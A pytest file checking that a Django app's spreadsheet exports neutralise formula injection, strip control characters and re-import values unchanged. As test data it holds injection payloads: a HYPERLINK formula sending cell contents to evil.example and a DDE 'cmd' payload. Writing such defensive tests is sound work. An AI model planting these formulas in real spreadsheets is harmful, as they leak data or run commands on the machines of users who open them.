"""Exports write stored text as text: no live formulas (OWASP CSV/formula injection), no
characters that break the file, and an export imported again gives back the same values."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from accounts.models import Organization
from reports.spreadsheets import (
    Column,
    Field,
    SheetSpec,
    SpreadsheetImport,
    content_disposition_filename,
    run_import,
    write_workbook,
)
from tests.conftest import api_client_for

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def cells(body: bytes):
    """Every cell of every sheet, read as stored (formulas kept as formulas)."""
    book = load_workbook(io.BytesIO(body))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def workbook_of(rows, columns=None, **spec):
    columns = columns or [Column("姓名", "name"), Column("地址", "address")]
    buffer = io.BytesIO()
    write_workbook(buffer, [(SheetSpec("名单", columns, **spec), rows)])
    return buffer.getvalue()


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_value_beginning_with_a_formula_character_is_written_as_quoted_text(value):
    body = workbook_of([{"name": value, "address": "华阳路 1 号"}])
    cell = load_workbook(io.BytesIO(body))["名单"]["A2"]
    assert cell.data_type == "s"
    # a carriage return is kept as a line break (a bare CR does not survive every reader)
    assert cell.value == "'" + value.replace("\r", "\n")


def test_no_cell_of_an_export_is_a_formula_titles_headers_footers_and_formatted_columns_included():
    columns = [
        Column("=1+1", "name", group="=组"),
        Column("地址", "address", number_format="@", group="=组"),
        Column("错误码", "code"),
    ]
    rows = [{"name": value, "address": value, "code": "#N/A"} for value in DANGEROUS]
    body = workbook_of(
        rows, columns, title_rows=["=cmd|' /C calc'!A0"], footer_rows=[["=SUM(1,2)", None, "#REF!"]]
    )
    every = cells(body)
    assert not [cell.coordinate for cell in every if cell.data_type == "f"]
    assert not [cell.coordinate for cell in every if cell.data_type == "e"]
    texts = [cell.value for cell in every if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "#N/A" in texts and "#REF!" in texts  # kept, as text
    # and the raw sheet XML holds no formula element at all
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_control_characters_are_dropped_instead_of_failing_the_whole_export():
    rows = [
        {"name": "张\x0b三\x00", "address": "华阳路\x1f 1 号\x0c"},
        {"name": "李四", "address": "\x0b=1+1"},
    ]
    body = workbook_of(rows, title_rows=["名单\x0b"])
    sheet = load_workbook(io.BytesIO(body))["名单"]
    assert sheet["A3"].value == "张三" and sheet["B3"].value == "华阳路 1 号"
    assert sheet["B4"].value == "'=1+1"  # stripped first, then neutralised
    assert sheet["A1"].value == "名单"


def test_a_sheet_name_with_reserved_characters_is_still_written():
    buffer = io.BytesIO()
    write_workbook(buffer, [(SheetSpec("长宁/华阳[1]:\x0b统计?", [Column("a", "a")]), [{"a": 1}])])
    assert load_workbook(buffer).sheetnames == ["长宁_华阳_1__统计_"]


def test_file_name_control_characters_are_replaced():
    assert content_disposition_filename("名单\x0b\x00-长宁") == "名单_-长宁.xlsx"


class PeopleImport(SpreadsheetImport):
    fields = [Field("name", "姓名"), Field("address", "地址", required=False)]

    def __init__(self):
        super().__init__()
        self.seen = []

    def save_row(self, row):
        self.seen.append((row.values["name"], row.values["address"]))


@pytest.mark.django_db
def test_an_export_imported_again_keeps_the_values():
    originals = [(value, f"地址{value}") for value in DANGEROUS[:4]] + [("'普通", "'=已带引号")]
    body = workbook_of([{"name": name, "address": address} for name, address in originals])
    importer = PeopleImport()
    run_import(io.BytesIO(body), importer, filename="名单.xlsx")
    assert importer.seen == originals


@pytest.mark.django_db
def test_csv_import_strips_the_quote_prefix_too():
    importer = PeopleImport()
    run_import(io.BytesIO("姓名,地址\n'=1+1,'-5\n".encode()), importer, filename="p.csv")
    assert importer.seen == [("=1+1", "-5")]


@pytest.mark.django_db
def test_organisation_with_formula_contact_and_control_character_exports_through_the_api(world):
    Organization.objects.filter(pk=world.company_a.pk).update(
        name="甲\x0b物业", contact_person='=HYPERLINK("http://evil.example/?x="&A2,"详情")', address="@地址"
    )
    response = api_client_for(world.changning_officer).get("/api/v1/organizations/export/")
    assert response.status_code == 200
    every = cells(b"".join(response.streaming_content))
    assert not [cell for cell in every if cell.data_type == "f"]
    values = {cell.value for cell in every}
    assert "甲物业" in values
    assert '\'=HYPERLINK("http://evil.example/?x="&A2,"详情")' in values
    assert "'@地址" in values
